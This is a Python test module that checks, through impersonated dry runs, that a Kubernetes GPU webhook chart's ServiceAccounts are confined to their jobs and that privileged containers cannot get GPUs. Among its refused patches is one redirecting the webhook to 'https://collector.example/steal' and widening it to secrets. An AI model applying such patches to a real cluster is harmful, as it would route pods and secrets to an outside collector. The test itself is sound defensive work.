"""Issue 34, findings 3 and 4, on the real control plane with the chart installed: each of the
chart's ServiceAccounts can do its job and nothing more (its ValidatingAdmissionPolicies hold
it where RBAC cannot), and no privileged container gets a GPU around the webhook.

The ServiceAccounts are played by impersonation from the admin kubeconfig (the driver's with
the node its pod's token would name, `authentication.kubernetes.io/node-name`); the writes are
server-side dry runs, which admission policies judge as they judge real writes.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from hami_dra_webhook.cluster.quota.lease import Lease
from tests.support.cluster import (
    RELEASE_NAMESPACE,
    Cluster,
    CommandFailed,
    Release,
    api_for,
    granted,
    wait_for,
)
from tests.support.loop import run
from tests.support.pods import gpu_pod

NODE_EXTRA = "authentication.kubernetes.io/node-name"
DRIVER = "hami-core-gpu.project-hami.io"


def _as(cluster: Cluster, who: str, *args: str, node: str = "", stdin: str | None = None) -> str:
    """kubectl as ServiceAccount `who` (namespace/name); its error text when refused."""
    namespace, name = who.split("/")
    flags = [
        f"--as=system:serviceaccount:{namespace}:{name}",
        "--as-group=system:serviceaccounts",
        f"--as-group=system:serviceaccounts:{namespace}",
    ]
    if node:
        flags.append(f"--as-user-extra={NODE_EXTRA}={node}")
    done = cluster.kubectl(*flags, *args, stdin=stdin, check=False)
    return "" if done.returncode == 0 else done.stderr


def _patch(cluster: Cluster, who: str, kind: str, name: str, ops: list[dict[str, Any]]) -> str:
    return _as(
        cluster, who, "patch", kind, name, "--type=json", "-p", json.dumps(ops), "--dry-run=server"
    )


@pytest.fixture
def webhook_account(hami: Release) -> str:
    return f"{RELEASE_NAMESPACE}/{hami.fullname}"


def test_the_webhooks_account_may_change_only_the_ca_bundle(
    cluster: Cluster, hami: Release, webhook_account: str
) -> None:
    """Finding 3: with the webhook's token, its MutatingWebhookConfiguration could be rewritten
    whole (a dry run sending every pod to an outside URL was accepted; failurePolicy Ignore
    with a dead URL let legacy pods in unconverted)."""
    name = hami.fullname
    current = cluster.get("mutatingwebhookconfiguration", name)
    bundle = current["webhooks"][0]["clientConfig"].get("caBundle", "")
    kind = "mutatingwebhookconfiguration"
    allowed = _patch(
        cluster,
        webhook_account,
        kind,
        name,
        [{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": bundle}],
    )
    assert allowed == ""
    refused = {
        "failurePolicy": [
            {"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}
        ],
        "url": [
            {"op": "remove", "path": "/webhooks/0/clientConfig/url"},
            {
                "op": "add",
                "path": "/webhooks/0/clientConfig/url",
                "value": "https://collector.example/steal",
            },
        ],
        "rules": [
            {
                "op": "replace",
                "path": "/webhooks/0/rules/0/resources",
                "value": ["pods", "secrets", "configmaps"],
            }
        ],
        "namespaceSelector": [
            {"op": "replace", "path": "/webhooks/0/namespaceSelector", "value": {}}
        ],
        "matchConditions": [{"op": "remove", "path": "/webhooks/0/matchConditions"}],
        "timeout": [{"op": "replace", "path": "/webhooks/0/timeoutSeconds", "value": 30}],
        "labels": [{"op": "add", "path": "/metadata/labels/extra", "value": "x"}],
    }
    for what, ops in refused.items():
        answer = _patch(cluster, webhook_account, kind, name, ops)
        assert "may change only clientConfig.caBundle" in answer, (what, answer)
    # The workloads' preview's ValidatingWebhookConfiguration: the same, caBundle only.
    preview = "validatingwebhookconfiguration"
    bundle = cluster.get(preview, name)["webhooks"][0]["clientConfig"].get("caBundle", "")
    same = [{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": bundle}]
    assert _patch(cluster, webhook_account, preview, name, same) == ""
    # its failurePolicy is Ignore already: Fail would block every workload while it is down
    refused["failurePolicy"][0]["value"] = "Fail"
    for what in ("failurePolicy", "rules", "namespaceSelector", "matchConditions"):
        answer = _patch(cluster, webhook_account, preview, name, refused[what])
        assert "may change only clientConfig.caBundle" in answer, (what, answer)
    # RBAC: nothing else, and no other configuration.
    assert "forbidden" in _as(cluster, webhook_account, "delete", kind, name, "--dry-run=server")
    assert "forbidden" in _as(cluster, webhook_account, "delete", preview, name, "--dry-run=server")
    assert "forbidden" in _as(cluster, webhook_account, "get", "secrets", "-n", "kube-system")


def test_the_webhooks_account_writes_only_the_webhooks_templates(
    cluster: Cluster, hami: Release, webhook_account: str, namespace: str
) -> None:
    template = {
        "apiVersion": "resource.k8s.io/v1",
        "kind": "ResourceClaimTemplate",
        "metadata": {"name": "anything", "namespace": namespace},
        "spec": {"spec": {"devices": {"requests": []}}},
    }

    def create(body: dict[str, Any]) -> str:
        return _as(
            cluster,
            webhook_account,
            "create",
            "--dry-run=server",
            "-f",
            "-",
            stdin=json.dumps(body),
        )

    assert "labelled exactly as the webhook labels them" in create(template)
    template["metadata"]["labels"] = {
        "app.kubernetes.io/managed-by": "hami-dra-webhook",
        "hami.io/dra": "true",
    }
    assert create(template) == ""
    cluster.kubectl(
        "create",
        "-f",
        "-",
        stdin=json.dumps({**template, "metadata": {"name": "tenants", "namespace": namespace}}),
    )
    refused = _as(
        cluster,
        webhook_account,
        "delete",
        "resourceclaimtemplate",
        "tenants",
        "-n",
        namespace,
        "--dry-run=server",
    )
    assert "labelled exactly as the webhook labels them" in refused


def test_the_drivers_account_writes_only_its_own_nodes_slices(
    cluster: Cluster, hami: Release
) -> None:
    """Finding 3: the driver's ServiceAccount could create and delete any ResourceSlice and
    update any claim's status."""
    driver_account = f"{RELEASE_NAMESPACE}/{hami.fullname}-driver"
    node = cluster.node.name
    slice_ = {
        "apiVersion": "resource.k8s.io/v1",
        "kind": "ResourceSlice",
        "metadata": {"name": f"{node}-probe"},
        "spec": {
            "driver": DRIVER,
            "nodeName": node,
            "pool": {"name": node, "generation": 1, "resourceSliceCount": 1},
            "devices": [],
        },
    }

    def create(body: dict[str, Any], on: str) -> str:
        return _as(
            cluster,
            driver_account,
            "create",
            "--dry-run=server",
            "-f",
            "-",
            stdin=json.dumps(body),
            node=on,
        )

    assert create(slice_, node) == ""
    other_node = json.loads(json.dumps(slice_))
    other_node["spec"]["nodeName"] = "someone-elses-node"
    assert "on its own node" in create(other_node, node)
    other_driver = json.loads(json.dumps(slice_))
    other_driver["spec"]["driver"] = "gpu.example.com"
    assert "may write only ResourceSlices of driver" in create(other_driver, node)
    assert "none: the token names no node" in create(slice_, "")
    # The GPU node's own slice: its node may delete it, another may not.
    [published] = [
        s["metadata"]["name"]
        for s in cluster.get("resourceslices")["items"]
        if s["spec"].get("nodeName") == node and s["spec"]["driver"] == DRIVER
    ]
    delete = ["delete", "resourceslice", published, "--dry-run=server"]
    assert _as(cluster, driver_account, *delete, node=node) == ""
    assert "on its own node" in _as(cluster, driver_account, *delete, node="another")


def test_the_drivers_account_may_not_write_a_claim_it_did_not_allocate(
    cluster: Cluster, hami: Release, namespace: str
) -> None:
    driver_account = f"{RELEASE_NAMESPACE}/{hami.fullname}-driver"
    claim = {
        "apiVersion": "resource.k8s.io/v1",
        "kind": "ResourceClaim",
        "metadata": {"name": "unallocated", "namespace": namespace},
        "spec": {"devices": {"requests": [{"name": "r", "exactly": {"deviceClassName": DRIVER}}]}},
    }
    cluster.kubectl("create", "-f", "-", stdin=json.dumps(claim))
    try:
        stored = cluster.get("resourceclaim", "unallocated", "-n", namespace)
        # An allocation of its own driver's device, which only kube-scheduler may write.
        result = {"request": "r", "driver": DRIVER, "pool": "p", "device": "d"}
        stored["status"] = {"allocation": {"devices": {"results": [result]}}}
        refused = _as(
            cluster,
            driver_account,
            "replace",
            "--subresource=status",
            "--dry-run=server",
            "-f",
            "-",
            stdin=json.dumps(stored),
            node=cluster.node.name,
        )
        # The policy refuses it; 1.37's own check of status.allocation writers (the
        # resourceclaims/binding permission) refuses it first there.
        assert "claims its driver allocated" in refused or "resourceclaims/binding" in refused
    finally:
        cluster.kubectl("delete", "resourceclaim", "unallocated", "-n", namespace)


def _privileged_pod(name: str, *, claim_template: str = "", implicit: bool = False) -> str:
    container: dict[str, Any] = {
        "name": "c",
        "image": "registry.k8s.io/pause:3.10",
        "securityContext": {"privileged": True},
    }
    spec: dict[str, Any] = {"containers": [container]}
    if claim_template:
        spec["resourceClaims"] = [{"name": "gpu", "resourceClaimTemplateName": claim_template}]
        container["resources"] = {"claims": [{"name": "gpu"}]}
    if implicit:
        container["resources"] = {"limits": {f"deviceclass.resource.kubernetes.io/{DRIVER}": 1}}
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": spec}
    return json.dumps(pod)


def test_no_privileged_container_gets_a_gpu_around_the_webhook(
    cluster: Cluster, hami: Release, namespace: str
) -> None:
    """Finding 4: a privileged container got a GPU through a pod naming the webhook's template
    itself (also what `kubectl debug --copy-to --profile=sysadmin` of a converted pod makes),
    and through the DeviceClass's implicit extended resource, which no webhook sees; an
    opted-out namespace changes nothing."""
    cluster.kubectl("label", "namespace", namespace, "hami.io/webhook=ignore")
    for name, pod in {
        "names-template": _privileged_pod("a", claim_template="hami-gpu-0123456789abcdef"),
        "implicit-resource": _privileged_pod("b", implicit=True),
    }.items():
        with pytest.raises(CommandFailed) as refused:
            cluster.kubectl("create", "-n", namespace, "-f", "-", stdin=pod)
        assert "is privileged in a pod that holds GPUs" in str(refused.value), name
    unprivileged = json.loads(_privileged_pod("c", claim_template="hami-gpu-0123456789abcdef"))
    unprivileged["spec"]["containers"][0].pop("securityContext")
    cluster.kubectl(
        "create", "-n", namespace, "--dry-run=server", "-f", "-", stdin=json.dumps(unprivileged)
    )


def _used(cluster: Cluster, username: str) -> set[tuple[str, str]]:
    """(resource[/subresource] with its group, verb) of every request kube-apiserver's audit
    log holds from `username`, allowed or not."""
    used = set()
    for line in cluster.plane.audit_log.read_text().splitlines():
        event = json.loads(line)
        if event.get("user", {}).get("username") != username or "objectRef" not in event:
            continue
        ref = event["objectRef"]
        resource = ref["resource"] + (f"/{ref['subresource']}" if ref.get("subresource") else "")
        group = ref.get("apiGroup", "")
        used.add((f"{resource}.{group}" if group else resource, event["verb"]))
    return used


async def _follow(api: Any, hami: Release) -> None:
    """A replica that finds the Lease held and waits for it a moment (watching it)."""
    try:
        lease = Lease(api, RELEASE_NAMESPACE, f"{hami.fullname}-gpu-quota", "a-second-replica")
        assert not await lease.hold()
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(lease.wait_until_free(), timeout=2)
    finally:
        await api.close()


def test_every_verb_granted_to_the_webhook_is_used(
    cluster: Cluster, hami: Release, namespace: str, tmp_path: Path
) -> None:
    """Issue 34: least privilege means each verb the chart grants the webhook's ServiceAccount
    is one its process uses. This drives what the webhook does (an admission that creates a
    template, a cold cache that finds it and stamps it, a garbage collection that deletes one,
    besides the start-up's certificates, watch and cluster check) and reads what it did from
    kube-apiserver's own audit log: every granted verb is there."""
    hami.restart()  # a start: certificates read and published, the watch, the cluster check
    assert hami.webhook is not None
    hami.webhook.wait_ready(timeout=60)
    cluster.apply(gpu_pod("first", {"nvidia.com/gpu": 1}), namespace=namespace)
    hami.restart()  # a cold cache: the template exists, is read, compared and stamped
    hami.webhook.wait_ready(timeout=60)
    cluster.apply(gpu_pod("again", {"nvidia.com/gpu": 1}), namespace=namespace)
    cluster.apply(gpu_pod("gone", {"nvidia.com/gpu": 3}), namespace=namespace)
    cluster.kubectl("delete", "pod", "gone", "-n", namespace, "--grace-period=0", "--force")
    time.sleep(1.1)  # whole-second stamps; the grace below is one second
    collected = subprocess.run(
        [sys.executable, "-m", "hami_dra_webhook", "gc", "--kubeconfig", str(hami.kubeconfig),
         "--grace", "1"],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert collected.returncode == 0 and f"deleted {namespace}/" in collected.stdout
    # GPU quotas: the namespace labelled, one pod released, one held (its Event), the label
    # removed once the quota is gone (docs/quotas.md).
    quota = {"apiVersion": "v1", "kind": "ResourceQuota", "metadata": {"name": "gpu"}}
    # Whole GPUs (every flavor): "first" and "again" above count 2, "fits" makes 3.
    quota["spec"] = {"hard": {"requests.nvidia.com/gpu": "3"}}
    cluster.apply(quota, namespace=namespace)

    def labelled() -> bool:
        labels = cluster.get("ns", namespace)["metadata"].get("labels") or {}
        return bool(labels.get("hami.io/gpu-quota"))

    wait_for(labelled, "the quota's namespace labelled")
    cluster.apply(gpu_pod("fits", {"nvidia.com/gpu": 1}), namespace=namespace)
    cluster.apply(gpu_pod("waits", {"nvidia.com/gpu": 1}), namespace=namespace)

    def told() -> bool:
        events = cluster.get("events", "-n", namespace, "--field-selector=reason=GPUQuotaExceeded")
        return bool(events["items"])

    wait_for(told, "a held pod's Event")
    cluster.kubectl("delete", "resourcequota", "gpu", "-n", namespace)
    wait_for(lambda: not labelled(), "the label removed with the quota")
    # A second replica under the same account waits for the Lease: it watches it.
    assert hami.kubeconfig is not None
    run(_follow(api_for(hami.kubeconfig), hami))
    username = f"system:serviceaccount:{RELEASE_NAMESPACE}:{hami.fullname}"
    used = _used(cluster, username)
    grants = {
        (resource, verb)
        for resource, (verbs, _) in granted(cluster, RELEASE_NAMESPACE, username).items()
        for verb in verbs
    }
    assert grants - used == set(), f"granted, never used: {sorted(grants - used)}"
    assert used <= grants, f"used, not granted: {sorted(used - grants)}"
